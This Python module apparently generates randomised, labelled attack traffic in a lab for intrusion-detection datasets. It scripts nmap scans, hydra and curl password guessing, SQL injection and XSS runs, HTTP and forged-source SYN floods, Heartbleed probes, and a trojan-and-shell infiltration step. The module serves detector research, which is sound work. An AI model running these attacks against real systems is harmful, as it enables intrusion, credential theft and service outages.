"""Attacks with parameters by chance: other ports, rates, counts, sizes and programs each time.

Those that are held out are never trained with: they show what is found of programs that nobody has seen.
"""

from __future__ import annotations

import random
from collections.abc import Sequence

from lab.attacks import word_list
from lab.labels import TCP
from lab.scenarios import Stage
from lab.servers import FTP_PORTS, SSH_PORTS, USER, WEB_PORTS
from lab.variant import Action, Variant, attacker_of, run, run_module
from lab.variant_floods import bench_flood, http_flood, packet_flood, slow, slow_http
from lab.variant_slow import long_slow

BEACON_PORTS, SHELL_PORTS, HEARTBLEED_PORTS = (8443, 8080, 6667, 443), ((4444, 8000), (444, 80)), (4433, 8443)


def _nmap(*options: str, tool: str, hosts: Sequence[str] = ("web", "files", "dns", "alice", "c2")) -> Action:
    def action(stage: Stage, chance: random.Random) -> None:
        scanner, target = attacker_of(stage, chance), stage.host(chance.choice(hosts))
        is_new = chance.random() < 0.2 and "-sU" not in options
        source, address = (scanner.ipv6, target.ipv6) if is_new else (scanner.ipv4, target.ipv4)
        first = chance.randint(1, 40_000)
        ports = chance.choice([["--top-ports", str(chance.randint(40, 250))], ["-p", f"{first}-{first + 150}"]])
        if "-sU" in options:
            ports = ["--top-ports", "15", "--max-retries", "1"]
        if "-sV" in options:
            ports = ["-p", "21,22,80,443,902,2121,3000,3389,5222"]
        rate = ["--max-rate", str(chance.choice([40, 100, 200, 400]))]
        if chance.random() < 0.4 and not {"-sT", "-sV", "-6"} & {*options} and not is_new:
            rate += chance.choice([["--data-length", str(chance.choice([4, 24, 120]))], ["-g", "53"], ["-g", "20"]])
        with stage.label("PortScan", tool, source, address):
            run(
                scanner,
                "nmap",
                "-n",
                "-Pn",
                *(["-6"] if is_new else []),
                *options,
                *ports,
                *rate,
                address,
                timeout_s=16,
            )

    return action


def _connect_scan(stage: Stage, chance: random.Random) -> None:
    scanner, target = attacker_of(stage, chance), stage.host(chance.choice(["web", "files", "dns", "bob"]))
    first, seed = chance.randint(1, 9000), chance.getrandbits(20)
    words = (target.ipv4, "--first", first, "--last", first + chance.randint(60, 250), "--seed", seed)
    with stage.label("PortScan", "connect_scan", scanner.ipv4, target.ipv4, None, TCP):
        run_module(scanner, "lab.tools.connect_scan", *words, "--rate", chance.choice([40, 120, 300]))


def _hping_scan(stage: Stage, chance: random.Random) -> None:
    scanner, target = attacker_of(stage, chance), stage.host(chance.choice(["web", "files"]))
    first = chance.randint(1, 30_000)
    with stage.label("PortScan", "hping3 --scan", scanner.ipv4, target.ipv4, None, TCP):
        run(scanner, "hping3", "-I", "eth0", "--scan", f"{first}-{first + 150}", "-S", target.ipv4, timeout_s=12)


def _hydra(class_name: str, service: str, host: str, ports: Sequence[int], *options: str) -> Action:
    def action(stage: Stage, chance: random.Random) -> None:
        attacker, target, port = attacker_of(stage, chance), stage.host(host), chance.choice(ports)
        words = ["-l", chance.choice([USER, "admin", "root"]), "-P", word_list(attacker.folder), "-I", "-s", str(port)]
        words += ["-t", str(chance.choice([1, 2, 4])), "-w", "3", "-c", chance.choice(["0", "1"])]
        words = words[:-2] if words[-1] == "0" else words
        with stage.label(class_name, f"hydra {service}", attacker.ipv4, target.ipv4, port, TCP):
            run(attacker, "hydra", *words, target.ipv4, service, *options, timeout_s=18)

    return action


def _script(class_name: str, script: str, host: str, ports: Sequence[int], *arguments: str) -> Action:
    """Let nmap's own guessing and flooding scripts do it."""

    def action(stage: Stage, chance: random.Random) -> None:
        attacker, target, port = attacker_of(stage, chance), stage.host(host), chance.choice(ports)
        words = [word_list(attacker.folder, "users.txt", [USER, "admin"]), word_list(attacker.folder)]
        given = ",".join(
            [f"userdb={words[0]}", f"passdb={words[1]}", "brute.threads=3", "unpwdb.timelimit=15s", *arguments]
        )
        options = ["-n", "-Pn", "-sT", "-p", str(port), "--script", f"+{script}", "--script-args", given]
        with stage.label(class_name, f"nmap {script}", attacker.ipv4, target.ipv4, port, TCP):
            run(attacker, "nmap", *options, target.ipv4, timeout_s=22)

    return action


def _guess_ssh(stage: Stage, chance: random.Random) -> None:
    """Guess with the ordinary client, a connection each."""
    attacker, target, port = attacker_of(stage, chance), stage.host("files"), chance.choice(SSH_PORTS)
    options = ["-p", str(port), "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null"]
    options += ["-o", "NumberOfPasswordPrompts=1", "-o", "PubkeyAuthentication=no", "-o", "ConnectTimeout=5"]
    with stage.label("SSH-Patator", "sshpass ssh", attacker.ipv4, target.ipv4, port, TCP):
        for number in range(12):
            command = ["sshpass", "-p", f"guess{number}", "ssh", *options, f"{USER}@{target.ipv4}", "true"]
            run(attacker, *command, timeout_s=6)


def _guess_ftp(stage: Stage, chance: random.Random) -> None:
    """Guess with curl, a connection each."""
    attacker, target, port = attacker_of(stage, chance), stage.host("files"), chance.choice(FTP_PORTS)
    with stage.label("FTP-Patator", "curl ftp", attacker.ipv4, target.ipv4, port, TCP):
        for number in range(6):
            url = f"ftp://{target.ipv4}:{port}/"
            run(attacker, "curl", "-s", "--max-time", "8", "--user", f"{USER}:guess{number}", url, timeout_s=10)


def _guess_web(stage: Stage, chance: random.Random) -> None:
    """Guess at the form with curl: a few at a time over one connection, as a script in a browser does."""
    attacker, target, port = attacker_of(stage, chance), stage.host("web"), chance.choice(WEB_PORTS)
    url = f"http://{target.ipv4}:{port}/app/login"
    with stage.label("Web Attack – Brute Force", "curl form", attacker.ipv4, target.ipv4, port, TCP):
        for _ in range(10):
            words = ["-d", f"user=admin&password={chance.getrandbits(40):x}"]
            guesses = [word for _ in range(chance.randint(4, 12)) for word in ("-o", "/dev/null", url)]
            run(attacker, "curl", "-s", "--max-time", "8", *words, *guesses)


def _web_attack(kind: str, class_name: str) -> Action:
    def action(stage: Stage, chance: random.Random) -> None:
        attacker, target, port = attacker_of(stage, chance), stage.host("web"), chance.choice(WEB_PORTS)
        is_kept = chance.random() < 0.5
        tool = f"web_attacks {kind}{' --keep' if is_kept else ''}"
        with stage.label(class_name, tool, attacker.ipv4, target.ipv4, port, TCP):
            for _ in range(8 if is_kept else 1):
                words = ["--port", port, "--seed", chance.getrandbits(16), "--rounds", chance.randint(1, 3)]
                words += ["--pause-s", chance.choice([0.03, 0.05, 0.1, 0.2]), *(["--keep"] if is_kept else [])]
                run_module(attacker, "lab.tools.web_attacks", kind, target.ipv4, *words, timeout_s=30)

    return action


def _heartbleed(stage: Stage, chance: random.Random) -> None:
    attacker, target, port = attacker_of(stage, chance), stage.host("web"), chance.choice(HEARTBLEED_PORTS)
    with stage.label("Heartbleed", "nmap ssl-heartbleed", attacker.ipv4, target.ipv4, port, TCP):
        for _ in range(3):
            words = ["-n", "-Pn", "-sT", "-p", str(port), "--script", "+ssl-heartbleed", target.ipv4]
            run(attacker, "nmap", *words, timeout_s=12)


def _heartbleed_long(stage: Stage, chance: random.Random) -> None:
    attacker, target, port = attacker_of(stage, chance), stage.host("web"), chance.choice(HEARTBLEED_PORTS)
    with stage.label("Heartbleed", "heartbleed_client", attacker.ipv4, target.ipv4, port, TCP):
        for _ in range(5):
            words = [target.ipv4, "--port", port, "--count", chance.randint(3, 25)]
            run_module(attacker, "lab.tools.heartbleed_client", *words, "--pause-s", chance.choice([0.05, 0.2]))


def _infiltration(stage: Stage, chance: random.Random) -> None:
    """Let `dave` fetch a trojan and open a shell to its maker, who scans the inside from there."""
    victim, maker = stage.host("dave"), stage.host("trudy")
    with stage.label("Infiltration", "infiltration", victim.ipv4, maker.ipv4, None, TCP):
        for _ in range(4):
            ports = chance.choice(SHELL_PORTS)
            more = ["--trojan-bytes", chance.choice([20_000, 60_000, 400_000]), "--times", chance.randint(1, 30)]
            run_module(victim, "lab.tools.infiltration", "implant", maker.ipv4, *ports, *more)
    target = stage.host(chance.choice(["files", "dns", "alice"]))
    # As in the corrected CICIDS2017, a scan is a scan, whoever has its machine do it.
    with stage.label("PortScan", "nmap -sT from inside", victim.ipv4, target.ipv4, None, TCP):
        run(victim, "nmap", "-n", "-Pn", "-sT", "--top-ports", "60", "--max-rate", "80", target.ipv4)


_FORM = "/app/login:user=^USER^&password=^PASS^:incorrect"
_WEB_GUESS = "Web Attack – Brute Force"
_FORM_SCRIPT = ("http-form-brute.path=/app/login", "http-form-brute.uservar=user", "http-form-brute.passvar=password")

VARIANTS: tuple[Variant, ...] = (
    Variant("scan-syn", _nmap("-sS", tool="nmap -sS")),
    Variant("scan-connect", _nmap("-sT", tool="nmap -sT")),
    Variant("scan-udp", _nmap("-sU", tool="nmap -sU")),
    Variant("scan-fin", _nmap("-sF", tool="nmap -sF")),
    Variant("scan-version", _nmap("-sV", tool="nmap -sV", hosts=("web", "files"))),
    Variant("scan-hping", _hping_scan, is_held_out=True),
    Variant("scan-xmas", _nmap("-sX", tool="nmap -sX"), is_held_out=True),
    Variant("scan-slow", _nmap("-sS", "--scan-delay", "200ms", tool="nmap -sS --scan-delay"), is_held_out=True),
    Variant("scan-python", _connect_scan, is_held_out=True),
    Variant("ssh-hydra", _hydra("SSH-Patator", "ssh", "files", SSH_PORTS)),
    Variant("ssh-client", _guess_ssh),
    Variant("ssh-nmap", _script("SSH-Patator", "ssh-brute", "files", SSH_PORTS), is_held_out=True),
    Variant("ftp-hydra", _hydra("FTP-Patator", "ftp", "files", FTP_PORTS)),
    Variant("ftp-curl", _guess_ftp),
    Variant("ftp-nmap", _script("FTP-Patator", "ftp-brute", "files", FTP_PORTS), is_held_out=True),
    Variant("web-hydra", _hydra(_WEB_GUESS, "http-post-form", "web", WEB_PORTS, _FORM)),
    Variant("web-curl", _guess_web),
    Variant("web-nmap", _script(_WEB_GUESS, "http-form-brute", "web", WEB_PORTS, *_FORM_SCRIPT), is_held_out=True),
    Variant("sql", _web_attack("sql", "Web Attack – Sql Injection")),
    Variant("xss", _web_attack("xss", "Web Attack – XSS")),
    Variant("hulk", http_flood("hulk", "DoS Hulk")),
    Variant("hulk-busy", http_flood("hulk", "DoS Hulk", page="/app/report")),
    Variant("goldeneye", http_flood("goldeneye", "DoS GoldenEye")),
    Variant("slow-headers", slow("DoS slowloris", "-H", page="")),
    Variant("slow-python", slow_http),
    Variant("slow-nmap", _script("DoS slowloris", "http-slowloris", "web", WEB_PORTS), is_held_out=True),
    Variant("slow-long", long_slow, is_alone=True),
    Variant("slow-body", slow("DoS Slowhttptest", "-B", page="app/login")),
    Variant("slow-read", slow("DoS Slowhttptest", "-X", "-n", "2", "-w", "256", "-y", "512", "-z", "32")),
    Variant("slow-range", slow("DoS Slowhttptest", "-R", "-a", "10", "-b", "300", "-t", "HEAD")),
    Variant("flood-syn", packet_flood("hping3 -S", "-S")),
    Variant("flood-syn-forged", packet_flood("hping3 -S -a", "-S", is_forged=True)),
    Variant("flood-ack", packet_flood("hping3 -A", "-A"), is_held_out=True),
    Variant("flood-udp", packet_flood("hping3 --udp", "--udp")),
    Variant("flood-icmp", packet_flood("hping3 --icmp", "--icmp", has_port=False)),
    Variant("flood-http", bench_flood),
    Variant("heartbleed", _heartbleed),
    Variant("heartbleed-long", _heartbleed_long),
    Variant("infiltration", _infiltration),
)  # fmt: skip
"""All of them; a beacon of an infected host runs beside them all the time."""
